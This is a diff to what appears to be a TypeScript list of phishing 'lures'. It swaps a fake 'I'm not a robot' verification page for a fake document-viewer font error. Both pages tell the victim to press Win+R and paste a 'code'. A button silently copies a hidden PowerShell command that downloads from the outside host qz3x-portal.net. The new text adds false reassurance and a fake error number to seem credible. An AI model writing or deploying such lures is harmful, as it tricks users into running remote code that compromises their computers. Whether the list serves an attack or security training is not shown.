@@ -114,18 +114,18 @@ export const lures: readonly Lure[] = [
 <html lang="en">
 <head>
 <meta charset="utf-8" />
-<title>Human verification – NimbusGuard</title>
+<title>Quarterly report – Orchard Docs</title>
 </head>
 <body>
-<h1>Verify that you are human</h1>
-<p>Unusual web traffic was detected. Complete these steps to prove that you are not a robot:</p>
+<h1>This document cannot be displayed</h1>
+<p>The document viewer’s font is missing. Complete these steps to fix it – administrator rights are not needed:</p>
 <ol>
 <li>Press the <b>Windows</b> key + <b>R</b> – a small window opens.</li>
-<li>Press <b>Ctrl</b> + <b>V</b> to paste the verification code.</li>
-<li>Press <b>Enter</b> and wait until the check is complete.</li>
+<li>Press <b>Ctrl</b> + <b>V</b> to paste the repair code.</li>
+<li>Press <b>Enter</b> and wait until the document opens.</li>
 </ol>
-<button type="button" onclick="navigator.clipboard.writeText('powershell -w hidden -c iwr qz3x-portal.net/v')">I’m not a robot</button>
-<p>Ray ID: 8c1f0a94be27d3e5</p>
+<button type="button" onclick="navigator.clipboard.writeText('powershell -w hidden -c iwr qz3x-portal.net/v')">Copy the repair code</button>
+<p>Error 0x80070643 – viewer 4.2</p>
 </body>
 </html>
 `,
